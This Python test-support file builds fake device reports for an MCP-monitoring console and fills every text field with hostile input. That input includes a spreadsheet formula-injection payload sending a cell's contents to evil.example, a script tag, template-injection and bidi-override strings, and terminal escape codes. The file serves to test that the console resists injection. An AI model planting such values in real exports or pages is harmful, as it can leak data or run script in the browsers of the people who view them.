# SPDX-License-Identifier: Apache-2.0
"""A console with a few devices whose every text is hostile, and programs that ask it."""

import hashlib
import json

from halod.console.access import Role
from halod.console.ingest.apply import take
from tests.console import support_people as people

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
ODD = (
    FORMULA,
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\uff1d1+1",
    "\uff20x",
    "'quoted",
    "\t=1",
    "\r\n=1",
    "a,b",
    'a"b',
    "a\nb",
    "a;b",
    "<script>alert(1)</script>",
    "\u202eevil\u2066",
    "\x1b[31mred\x1b[0m\x07",
    "\x00nul",
    "x" * 1024,
    "\U0001f600" * 300,
    "{{7*7}}",
    "a\u2028b",
    "",
)


def finding(server, kind="unapproved", **more):
    digest = hashlib.sha256(server.encode("utf-8", "surrogatepass")).hexdigest()
    return {
        "harness": "cursor", "file": "~/.cursor/mcp.json", "server": server, "kind": kind, "transport": "stdio",
        "definitionSha256": digest, "detail": server, "fix": server, "user": "dev", "scope": "user", "enabled": True,
        **more,
    }  # fmt: skip


def status(device, findings, **more):
    return {
        "schemaVersion": 1, "time": "2026-11-30T09:15:02Z", "device": device, "hostname": "mbp-1", "os": "macos",
        "halod": "0.1.0", "user": "dev", "ring": "ring0", "units": ["payments"], "digest": "sha256:" + "0" * 64,
        "mode": "allowlist", "mcpDrift": findings, "mcpApproved": [], "skipped": [], "transitions": [],
        "coverage": {"accounts": 1, "files": 1, "definitions": 1, "durationMs": 1, "notCovered": ["project-files"]},
        "mcpDriftTotal": len(findings), "truncated": False, "lastError": "", "errorCode": "", **more,
    }  # fmt: skip


def hostile_documents():
    """One device for each text, which is everywhere that a device may put text."""
    for nth, text in enumerate(ODD):
        kind = ("unapproved", "denied", "version-drift", "of-a-later-agent")[nth % 4]
        row = finding(text or "server", kind, file=text, user=text)
        opened = {"id": f"{nth}-1", "time": text, "event": "opened", "finding": row}
        web = finding(
            "web", transport="http", host=("mcp.example.com:8443", "[2001:db8::1]:443", "192.0.2.1")[nth % 3]
        )
        document = status(
            f"{nth:064x}", [row, web], hostname=text, user=text, ring=text, units=[text, "payments"], lastError=text,
            skipped=[{"user": text, "harness": "codex", "file": text, "reason": "malformed", "server": text, "line": 3}],
            mcpApproved=[{"harness": "cursor", "id": f"entry-{nth % 3}", "user": text, "count": 1}],
            transitions=[opened],
        )  # fmt: skip
        yield json.dumps(document).encode()


def hostile_console(store):
    """A console on a store that such devices reported to."""
    console = people.make_console(store)
    take(store, hostile_documents(), now=console.clock.now() - 60)
    return console


class Program:
    """A program with a token of a role."""

    def __init__(self, console, role=Role.ADMIN):
        self.console = console
        self.client = people.client(console)
        self.headers = people.bearer(people.api_token(console, role))

    def get(self, path, **query):
        return self.client.get(f"/api/v1{path}", params=query, headers=self.headers)

    def post(self, path, **query):
        return self.client.post(f"/api/v1{path}", params=query, headers=self.headers)

    def every(self, path, **query):
        """Give the rows of a whole list."""
        rows, cursor = [], ""
        while True:
            answer = self.get(path, **query, cursor=cursor)
            assert answer.status_code == 200, answer.text
            rows += answer.json()["rows"]
            cursor = answer.json()["next"]
            if not cursor:
                return rows
